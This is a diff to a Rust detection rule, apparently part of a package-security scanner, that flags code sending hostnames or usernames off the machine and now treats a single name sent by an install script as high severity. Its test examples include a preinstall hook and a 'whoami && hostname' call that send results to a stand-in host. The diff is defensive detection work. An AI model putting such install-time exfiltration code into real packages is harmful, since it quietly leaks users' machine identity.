@@ -3,6 +3,7 @@
 use std::sync::LazyLock;
 
 use super::source_calls::{carried_out, source_files, weighed};
+use crate::evidence::signals::install_scripts;
 use crate::evidence::source::{Call, Origins};
 use crate::fact::{Confidence, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
@@ -54,6 +55,11 @@ note = "Through the output of commands."
 "index.js" = '''
 const { exec } = require("child_process");
 exec("whoami && hostname", (e, out) => fetch("https://collector.test/?d=" + encodeURIComponent(out)));'''
+[[examples.fires]]
+note = "One name, sent while the package is installed."
+[examples.fires.files]
+"package.json" = '{"name": "a", "scripts": {"preinstall": "node report.js"}}'
+"report.js" = 'const os = require("os"); require("https").get("https://collector.test/?h=" + os.hostname());'
 [[examples.silent]]
 note = "The name is logged."
 [examples.silent.files]
@@ -77,9 +83,11 @@ impl Rule for SourceHostFingerprintSent {
     }
 
     fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+        let scripts: Vec<String> = install_scripts(subject).into_iter().flat_map(|script| script.files).collect();
+        let installs = |path: &str| path.ends_with("setup.py") || scripts.iter().any(|script| script == path);
         for file in source_files(subject) {
             for call in &file.view.calls {
-                if let Some((severity, confidence)) = judgement(call) {
+                if let Some((severity, confidence)) = judgement(call, installs(file.path)) {
                     let (severity, confidence) = weighed(&file, severity, confidence);
                     facts.found_as(severity, confidence, call.place.clone(), &call.text);
                 }
@@ -88,14 +96,14 @@ impl Rule for SourceHostFingerprintSent {
     }
 }
 
-/// One name alone is what telemetry sends; two tell who it is. A name that is looked up tells it to whoever owns the zone.
-fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
+/// One name alone is what telemetry sends; two tell who it is, as does one that is sent by being installed. A name that is looked up tells it to whoever owns the zone.
+fn judgement(call: &Call, installs: bool) -> Option<(Severity, Confidence)> {
     let carried = carried_out(call)?;
     let names = carried.count(Origins::HOST_NAME | Origins::USER_NAME | Origins::HOST_NETWORK);
     let asks_zone = call.callee.starts_with("dns.") && carried.any(Origins::COMPOSED);
     match names {
         0 => None,
-        1 if !asks_zone => None,
+        1 if !asks_zone && !installs => None,
         _ => Some((Severity::High, Confidence::High)),
     }
 }
